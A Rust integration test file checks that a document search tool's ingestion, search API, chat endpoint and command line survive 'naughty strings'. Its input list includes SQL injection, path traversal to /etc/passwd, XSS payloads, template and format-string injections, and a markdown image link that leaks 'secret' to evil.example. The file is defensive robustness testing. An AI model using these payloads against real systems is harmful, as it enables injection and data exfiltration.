//! Text that breaks programs, as documents and as questions.

use serde_json::{Value, json};

use crate::support::{Cairn, Server, Texts, write};

/// Our own: empty, control characters, right-to-left, combining marks, surrogates' neighbours, query syntax, injections, huge
/// words, emoji sequences.
const OWN: &[&str] = &[
    "",
    " ",
    "\0",
    "a\0b",
    "\u{feff}text with a byte order mark",
    "\u{202e}right to left override\u{202c}",
    "مرحبا بالعالم هذا نص عربي",
    "שלום עולם",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇩🇪",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "e\u{301} é ﬁ ﬀ Ⅷ ① ㍿",
    "\u{200b}\u{200c}\u{200d}\u{2060}zero width",
    "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
    "ẞ ß İ ı ǅ ς",
    "日本語のテキスト、漢字とかな。",
    "ภาษาไทยไม่มีช่องว่าง",
    "\r\n\r\n\t\u{b}\u{c}\u{85}\u{2028}\u{2029}",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
    "\"unbalanced AND (OR NOT * ? ~ ^ : [ ] { } \\",
    "title:secret +body -text field:[a TO z] \"a b\"~3^2",
    "'; DROP TABLE documents; --",
    "../../../../etc/passwd",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret) [y](javascript:alert(1))",
    "{{7*7}} ${7*7} %s%n%x",
    "NaN Infinity -0 1e999 0x7fffffff 9223372036854775808",
    "null undefined true false nil None",
    "---\ntitle: [unclosed\n---\n# \n## \n- \n> \n```",
    "| a | b |\n|---|\n| 1 | 2 | 3 |\n",
    "data:text/html;base64,PHNjcmlwdD4=",
    "\u{1f468}\u{200d}",
    "ﷺ",
];

/// The shared list, where the machine has it.
fn shared() -> Vec<String> {
    let Some(data) = cairn_testkit::need("data") else {
        return Vec::new();
    };
    let text = fs_err::read_to_string(data.join("security/naughty_strings.jsonl")).unwrap();
    let parse = |line: &str| {
        serde_json::from_str::<Value>(line).unwrap()["text"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    text.lines().map(parse).collect()
}

#[tokio::test]
async fn no_text_breaks_anything() {
    let mut texts: Vec<String> = OWN.iter().map(|text| (*text).to_owned()).collect();
    texts.push("x".repeat(100_000));
    texts.push("ö".repeat(3_999));
    texts.push("\u{301}".repeat(2_000));
    texts.extend(shared());
    let cairn = Cairn::new();
    for (n, text) in texts.iter().enumerate() {
        let kind = ["txt", "md", "html", "csv"][n % 4];
        write(&cairn.files(), &format!("{n:04}.{kind}"), text);
    }
    let outcome = cairn.run(&["ingest", ".", "--json"]).await;
    assert!([Some(0), Some(1)].contains(&outcome.code), "{outcome:#?}");
    let lines = outcome.lines();
    assert_eq!(lines.len(), texts.len() + 1);
    let (summary, documents) = lines.split_last().unwrap();
    assert_eq!(summary["truncated"], 0, "{summary}");
    for line in documents {
        let is_read = line["outcome"] == "added";
        assert!(is_read || line["reason"].is_string(), "{line}");
        let reason = line["reason"].as_str().unwrap_or_default();
        for crash in ["panic", "killed", "ended unexpectedly", "broke off", "time"] {
            assert!(!reason.contains(crash), "{line}");
        }
    }
    assert!(
        summary["added"].as_u64().unwrap() > texts.len() as u64 / 2,
        "{summary}"
    );
    as_questions(&cairn, &texts).await;
    on_the_command_line(&cairn).await;
}

async fn as_questions(cairn: &Cairn, texts: &[String]) {
    let server = Server::start(cairn).await;
    let mut stored = Texts::default();
    let mut path = "/api/v1/docs?limit=200".to_owned();
    loop {
        let page = server.http.get(&path).await.status(200).json();
        for document in page["documents"].as_array().unwrap() {
            let id = document["id"].as_str().unwrap();
            let chunks = server
                .http
                .get(&format!("/api/v1/docs/{id}/chunks?limit=200"))
                .await
                .status(200)
                .json();
            stored.add(id, chunks["chunks"].as_array().unwrap());
        }
        match page["next_cursor"].as_str() {
            Some(cursor) => path = format!("/api/v1/docs?limit=200&cursor={cursor}"),
            None => break,
        }
    }
    let mut n_found = 0;
    for text in texts {
        let reply = server
            .http
            .post("/api/v1/search", &json!({ "query": text, "top_k": 5 }))
            .await;
        let is_question = !text.trim().is_empty() && text.chars().count() <= 4000;
        match reply.status.as_u16() {
            200 => {
                for result in reply.json()["results"].as_array().unwrap() {
                    assert_eq!(
                        result["text"].as_str(),
                        stored.at(result).as_deref(),
                        "{result}"
                    );
                    n_found += 1;
                }
            }
            400 => assert_eq!(reply.json()["code"], "invalid_input"),
            other => panic!("{other} for {text:?}: {}", reply.text),
        }
        let reply = server
            .http
            .post("/api/v1/chat", &json!({ "query": text }))
            .await;
        match reply.status.as_u16() {
            200 => stored.assert_verified(&reply.json()),
            400 => assert_eq!(reply.json()["code"], "invalid_input"),
            other => panic!("{other} for {text:?}: {}", reply.text),
        }
        if is_question && text.chars().all(char::is_alphanumeric) {
            assert_eq!(reply.status, 200, "{text:?}");
        }
    }
    assert!(n_found > texts.len(), "{n_found}");
    let (code, log) = server.stop().await;
    assert_eq!(code, Some(0), "{log}");
    assert!(!log.contains("panic"), "{log}");
}

/// As arguments, and shown to a terminal without escape sequences.
async fn on_the_command_line(cairn: &Cairn) {
    for text in OWN.iter().filter(|text| !text.contains('\0')).step_by(3) {
        let outcome = cairn.run(&["search", "--", text]).await;
        assert!(
            [Some(0), Some(1), Some(2)].contains(&outcome.code),
            "{text:?}: {outcome:#?}"
        );
        assert!(
            !outcome.stdout.contains('\x1b') && !outcome.stderr.contains('\x1b'),
            "{outcome:#?}"
        );
    }
    let red = cairn.run(&["search", "red title"]).await.ok();
    assert!(
        !red.stdout.contains('\x1b') && !red.stdout.contains('\x07'),
        "{red:#?}"
    );
    let listed = cairn.run(&["docs", "list"]).await.ok();
    assert!(
        !listed.stdout.contains('\x1b'),
        "titles come from documents, too"
    );
}
